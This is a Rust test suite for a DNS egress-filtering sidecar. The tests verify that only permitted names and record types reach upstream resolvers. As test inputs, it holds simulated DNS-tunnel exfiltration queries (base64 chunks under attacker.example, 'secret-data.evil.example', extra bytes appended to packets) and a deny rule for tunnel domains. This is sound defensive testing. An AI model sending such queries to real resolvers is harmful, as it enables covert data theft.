//! Questions of the pod: what may be asked arrives, and nothing else does.

use crate::network::{PEER, SILENCE, dial};
use crate::policy::SERVERS;
use crate::server::{A, AAAA, TXT, ask, ask_by, ask_tcp, question_message};
use crate::support::in_own_network;
use crate::{Ground, ground, ground_under, policy};
use bulkhead_proxy::control::last_good::LastGood;
use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

/// Names below `card.example`, addresses only.
fn named() -> String {
    format!("    - {{name: names, {SERVERS}, dns: [{{names: ['*.card.example'], types: [A, AAAA]}}]}}")
}

#[test]
fn allowed_questions_are_answered_and_others_never_leave() {
    in_own_network("questions::allowed_questions_are_answered_and_others_never_leave", &[], || {
        let Ground { server, sidecar, peer: _peer } = ground("questions", &named());
        for address in PEER {
            let told = ask(address, "API.card.example", A).expect("answered");
            assert_eq!((told.code, told.records), (0, 1));
            assert_eq!(ask(address, "api.card.example", AAAA).expect("answered").records, 1);
            for (name, record) in [
                ("secret-data.evil.example", A),
                ("secret-data.evil.example", TXT),
                ("api.card.example", TXT),
                ("a.b.card.example", A),
                ("card.example", A),
            ] {
                let told = ask(address, name, record).expect("refused");
                assert_eq!(told.code, 5, "{name} {record}");
                assert!(told.text.contains("denied by bulkhead: l7_mismatch"), "{}", told.text);
                assert!(told.text.contains("to `dns` of rule `names`"), "{}", told.text);
            }
        }
        assert!(server.names().iter().all(|name| name == "api.card.example"), "{:?}", server.names());
        assert_eq!(server.names().len(), 4);
        let metrics = sidecar.ask("/metrics").expect("answers");
        assert!(metrics.contains("bulkhead_dns_released_total 4"), "{metrics}");
        assert!(metrics.contains("bulkhead_dns_refused_total 10"), "{metrics}");
        assert!(
            metrics.contains(r#"bulkhead_denials_total{direction="egress",reason="l7_mismatch"} 10"#),
            "{metrics}"
        );
    });
}

#[test]
fn whoever_gets_the_port_of_a_question_of_ours_is_judged_and_answered_like_anybody() {
    in_own_network(
        "questions::whoever_gets_the_port_of_a_question_of_ours_is_judged_and_answered_like_anybody",
        &[],
        || {
            let Ground { server, sidecar: _sidecar, peer: _peer } = ground("port", &named());
            for address in PEER {
                assert_eq!(ask(address, "api.card.example", A).expect("answered").records, 1);
                let used = server.all().last().expect("asked").from;
                // The kernel still remembers what the sidecar asked from there.
                let socket = UdpSocket::bind((used.ip(), used.port())).expect("the port is free");
                let denied = ask_by(&socket, address, "secret-data.evil.example", TXT).expect("refused");
                assert_eq!(denied.code, 5);
                assert_eq!(ask_by(&socket, address, "api.card.example", A).expect("answered").records, 1);
            }
            assert!(server.names().iter().all(|name| name == "api.card.example"), "{:?}", server.names());
        },
    );
}

#[test]
fn the_same_holds_by_tcp_with_many_questions_at_once() {
    in_own_network("questions::the_same_holds_by_tcp_with_many_questions_at_once", &[], || {
        let Ground { server, sidecar: _sidecar, peer: _peer } = ground("tcp", &named());
        for address in PEER {
            let asked = [
                ("a.card.example", A),
                ("x.evil.example", TXT),
                ("b.card.example", AAAA),
                ("large.card.example", A),
            ];
            let told = ask_tcp(address, &asked).expect("answered");
            assert_eq!(told.iter().map(|told| told.code).collect::<Vec<_>>(), [0, 5, 0, 0]);
            assert_eq!(told.iter().map(|told| told.records).collect::<Vec<_>>(), [1, 0, 1, 1]);
        }
        assert!(!server.names().iter().any(|name| name.contains("evil")), "{:?}", server.names());
        assert!(server.all().iter().all(|asked| asked.tcp));
        assert_eq!(server.names().len(), 6);
    });
}

#[test]
fn an_answer_that_does_not_fit_is_asked_for_again_by_tcp() {
    in_own_network("questions::an_answer_that_does_not_fit_is_asked_for_again_by_tcp", &[], || {
        let Ground { server: _server, sidecar: _sidecar, peer: _peer } = ground("large", &named());
        assert!(ask(PEER[0], "large.card.example", A).expect("cut").cut);
        assert_eq!(ask_tcp(PEER[0], &[("large.card.example", A)]).expect("whole")[0].records, 1);
    });
}

#[test]
fn only_the_name_servers_that_are_allowed_are_asked() {
    in_own_network("questions::only_the_name_servers_that_are_allowed_are_asked", &[], || {
        let only_v4 = "    - {name: names, to: [{cidr: 10.0.0.9/32}], ports: [udp/53], dns: [{}]}";
        let Ground { server, sidecar: _sidecar, peer: _peer } = ground("servers", only_v4);
        assert!(ask(PEER[0], "whatever.example", TXT).is_some());
        assert_eq!(ask(PEER[1], "whatever.example", A), None);
        assert!(ask_tcp(PEER[0], &[("whatever.example", A)]).is_err(), "only UDP is allowed");
        assert_eq!(server.names().len(), 1);
    });
}

#[test]
fn what_leaves_has_another_identifier_and_port_and_nothing_hidden() {
    in_own_network("questions::what_leaves_has_another_identifier_and_port_and_nothing_hidden", &[], || {
        let Ground { server, sidecar: _sidecar, peer: _peer } = ground("hidden", &named());
        let socket = UdpSocket::bind("0.0.0.0:0").expect("bind");
        for _ in 0..16 {
            ask_by(&socket, PEER[0], "api.card.example", A).expect("answered");
        }
        let asked = server.all();
        let own = socket.local_addr().expect("address").port();
        assert!(asked.iter().all(|asked| asked.from.port() != own));
        let different = |of: fn(&crate::server::Asked) -> u16| {
            asked.iter().map(of).collect::<std::collections::BTreeSet<_>>().len()
        };
        assert!(different(|asked| asked.from.port()) > 12, "ports are chosen anew");
        assert!(different(|asked| u16::from_be_bytes([asked.message[0], asked.message[1]])) > 12);
        // A message that carries more than its question.
        socket.set_read_timeout(Some(SILENCE)).expect("timeout");
        let mut packed = question_message(7, "api.card.example", A);
        packed.extend(b"secret");
        socket.send_to(&packed, (PEER[0], 53)).expect("sent");
        let mut buffer = [0; 512];
        let length = socket.recv(&mut buffer).expect("refused");
        assert_eq!((length, buffer[3] & 15), (12, 1), "malformed");
        assert!(!server.all().iter().any(|asked| asked.message.windows(6).any(|window| window == b"secret")));
    });
}

#[test]
fn an_answer_is_believed_only_if_it_answers_the_question() {
    in_own_network("questions::an_answer_is_believed_only_if_it_answers_the_question", &[], || {
        let Ground { server: _server, sidecar, peer: _peer } = ground("forged", &named());
        let told = ask(PEER[0], "forged.card.example", A).expect("the third answer");
        assert_eq!((told.code, told.records), (0, 1));
        for name in ["rebind.card.example", "metadata.card.example"] {
            let told = ask(PEER[0], name, A).expect("withheld");
            assert_eq!((told.code, told.records), (5, 0), "{name}");
            assert!(told.text.contains("an address inside"), "{}", told.text);
        }
        assert_eq!(ask(PEER[0], "silent.card.example", A), None, "nobody answers, as without us");
        let metrics = sidecar.ask("/metrics").expect("answers");
        assert!(metrics.contains("bulkhead_dns_foreign_answers_total 2"), "{metrics}");
        assert!(metrics.contains("bulkhead_dns_answers_withheld_total 2"), "{metrics}");
    });
}

#[test]
fn the_ends_of_a_search_list_are_answered_without_asking_anybody() {
    in_own_network("questions::the_ends_of_a_search_list_are_answered_without_asking_anybody", &[], || {
        let Ground { server, sidecar, peer: _peer } = ground("search", &named());
        for end in ["shop.svc.cluster.local", "svc.cluster.local", "cluster.local", "corp"] {
            let told = ask(PEER[0], &format!("api.card.example.{end}"), A).expect("answered");
            assert_eq!(told.code, 3, "{end}: a resolver goes on to the next name");
        }
        assert_eq!(ask(PEER[0], "api.card.example", A).expect("answered").records, 1);
        let told = ask(PEER[0], "api.card.example.data.evil.example", A).expect("answered");
        assert_eq!(told.code, 3, "it might be a search list's");
        assert_eq!(server.names(), ["api.card.example"]);
        let metrics = sidecar.ask("/metrics").expect("answers");
        assert!(metrics.contains("bulkhead_dns_search_ends_total 5"), "{metrics}");
        let reported = r#"bulkhead_denials_total{direction="egress",reason="l7_mismatch"} 1"#;
        assert!(metrics.contains(reported), "only an end of the outside: {metrics}");
    });
}

#[test]
fn a_name_that_a_rule_denies_is_refused_though_others_are_open() {
    in_own_network("questions::a_name_that_a_rule_denies_is_refused_though_others_are_open", &[], || {
        let admin = "    - {name: all, to: [{cidr: 10.0.0.9/32}], ports: [udp/53]}
---
apiVersion: bulkhead.dev/v1alpha1
kind: ClusterSegmentPolicy
metadata: {name: never}
spec:
  tier: admin
  priority: 1
  subjects: {namespaces: {}}
  egress:
    - {name: tunnel, action: deny, to: [{cidr: 10.0.0.9/32}], ports: [udp/53], dns: [{names: ['**.tunnel.example']}, {types: [TXT]}]}";
        let Ground { server, sidecar: _sidecar, peer: _peer } = ground("denied", admin);
        assert_eq!(ask(PEER[0], "api.card.example", A).expect("answered").code, 0);
        for (name, record) in
            [("data.tunnel.example", A), ("api.card.example", TXT), ("api.card.example", 255)]
        {
            let told = ask(PEER[0], name, record).expect("refused");
            assert_eq!(told.code, 5, "{name}");
            assert!(told.text.contains("narrow rule `tunnel`"), "{}", told.text);
        }
        assert_eq!(server.names(), ["api.card.example"]);
    });
}

#[test]
fn under_audit_everything_passes_and_is_told() {
    in_own_network("questions::under_audit_everything_passes_and_is_told", &[], || {
        let program = policy::program_in_mode("audit", &named());
        let Ground { server, sidecar, peer: _peer } = ground_under("audit", &program);
        let told = |line: &str| sidecar.ask("/metrics").is_some_and(|metrics| metrics.contains(line));
        let shadow =
            r#"bulkhead_verdicts_total{direction="egress",enforced="allow",layer="l7",shadow="deny"} 0"#;
        let started = Instant::now();
        // Until the heart beats, questions pass unseen.
        while told(shadow) {
            assert!(started.elapsed() < Duration::from_secs(5), "nobody saw it");
            for address in PEER {
                assert_eq!(ask(address, "secret.evil.example", A).expect("answered").code, 0);
            }
        }
        let socket = UdpSocket::bind("0.0.0.0:0").expect("bind");
        socket.set_read_timeout(Some(3 * SILENCE)).expect("timeout");
        let packed = [&question_message(7, "secret.evil.example", A)[..], b"more"].concat();
        socket.send_to(&packed, (PEER[0], 53)).expect("sent");
        assert!(socket.recv(&mut [0; 512]).is_ok(), "what enforcement would call malformed");
        assert!(server.all().iter().any(|asked| asked.message.ends_with(b"more")));
        let asked = ask_tcp(PEER[0], &[("secret.evil.example", TXT)]).expect("answered");
        assert_eq!(asked[0].code, 0);
    });
}

#[test]
fn a_socket_that_asked_before_questions_were_judged_is_judged_from_then_on() {
    in_own_network(
        "questions::a_socket_that_asked_before_questions_were_judged_is_judged_from_then_on",
        &[],
        || {
            let Ground { server, mut sidecar, peer: _peer } =
                ground("socket", &format!("    - {{name: names, {SERVERS}}}"));
            let socket = UdpSocket::bind("0.0.0.0:0").expect("bind");
            assert_eq!(ask_by(&socket, PEER[0], "secret.evil.example", A).expect("answered").code, 0);
            sidecar.terminate();
            sidecar.wait();
            LastGood::within(&sidecar.state()).write(&policy::program(&named())).expect("written");
            sidecar.start_until_ready();
            assert_eq!(ask_by(&socket, PEER[0], "secret.evil.example", A).expect("refused").code, 5);
            assert_eq!(ask_by(&socket, PEER[0], "api.card.example", A).expect("answered").records, 1);
            assert_eq!(server.names(), ["secret.evil.example", "api.card.example"]);
        },
    );
}

#[test]
fn one_socket_may_ask_several_name_servers_at_once() {
    in_own_network("questions::one_socket_may_ask_several_name_servers_at_once", &[], || {
        let Ground { server: _server, sidecar: _sidecar, peer: _peer } = ground("several", &named());
        let socket = UdpSocket::bind("0.0.0.0:0").expect("bind");
        socket.set_read_timeout(Some(3 * SILENCE)).expect("timeout");
        let servers: [IpAddr; 2] = [PEER[0], "10.0.0.66".parse().expect("address")];
        for server in servers {
            socket.send_to(&question_message(9, "api.card.example", A), (server, 53)).expect("sent");
        }
        let mut from: Vec<SocketAddr> =
            (0..2).map(|_| socket.recv_from(&mut [0; 512]).expect("answered by both").1).collect();
        from.sort();
        assert_eq!(from, servers.map(|server| SocketAddr::new(server, 53)));
    });
}

#[test]
fn our_port_cannot_be_addressed_and_nobody_else_gets_what_is_captured() {
    in_own_network(
        "questions::our_port_cannot_be_addressed_and_nobody_else_gets_what_is_captured",
        &[],
        || {
            let Ground { server, mut sidecar, peer: _peer } = ground("direct", &named());
            for address in ["127.0.0.1", "10.0.0.7"] {
                let socket = UdpSocket::bind("0.0.0.0:0").expect("bind");
                socket.set_read_timeout(Some(SILENCE)).expect("timeout");
                let sent = socket.send_to(&question_message(1, "api.card.example", A), (address, 15053));
                assert!(sent.is_err() || socket.recv(&mut [0; 512]).is_err(), "{address}");
            }
            sidecar.kill();
            let thief = UdpSocket::bind("127.0.0.1:15053").expect("the port is free now");
            thief.set_read_timeout(Some(SILENCE)).expect("timeout");
            assert_eq!(ask(PEER[0], "api.card.example", A), None, "without a sidecar nothing leaves");
            assert!(thief.recv(&mut [0; 512]).is_err(), "and nobody else gets it");
            assert_eq!(server.names(), Vec::<String>::new());
        },
    );
}

#[test]
fn bytes_of_another_protocol_end_a_connection_that_is_judged() {
    in_own_network("questions::bytes_of_another_protocol_end_a_connection_that_is_judged", &[], || {
        let Ground { server, sidecar: _sidecar, peer: _peer } = ground("other", &named());
        let mut stream = dial(SocketAddr::new(PEER[0], 53)).expect("captured");
        stream.set_read_timeout(Some(3 * SILENCE)).expect("timeout");
        stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n").expect("written");
        assert!(!matches!(stream.read(&mut [0; 64]), Ok(length) if length > 0));
        assert_eq!(server.names(), Vec::<String>::new());
    });
}

#[test]
fn a_name_server_that_is_not_there_is_told_of_at_once() {
    in_own_network("questions::a_name_server_that_is_not_there_is_told_of_at_once", &[], || {
        let rule = "    - {name: names, to: [{cidr: 10.0.0.9/32}], ports: [udp/5300], dns: [{}]}";
        let Ground { server: _server, sidecar: _sidecar, peer: _peer } = ground("absent", rule);
        let socket = UdpSocket::bind("0.0.0.0:0").expect("bind");
        socket.set_read_timeout(Some(3 * SILENCE)).expect("timeout");
        socket.send_to(&question_message(9, "a.example", A), (PEER[0], 5300)).expect("sent");
        let mut buffer = [0; 512];
        let (_, from) = socket.recv_from(&mut buffer).expect("told");
        assert_eq!((buffer[3] & 15, from.port()), (2, 5300));
    });
}

#[test]
fn cve_2024_29018_data_does_not_leave_by_names() {
    in_own_network("questions::cve_2024_29018_data_does_not_leave_by_names", &[], || {
        let Ground { server, sidecar: _sidecar, peer: _peer } = ground("exfiltration", &named());
        for part in 0..20 {
            let told = ask(PEER[0], &format!("{part}.cGF5bG9hZA.attacker.example"), TXT).expect("refused");
            assert_eq!(told.code, 5);
        }
        assert_eq!(server.names(), Vec::<String>::new());
    });
}
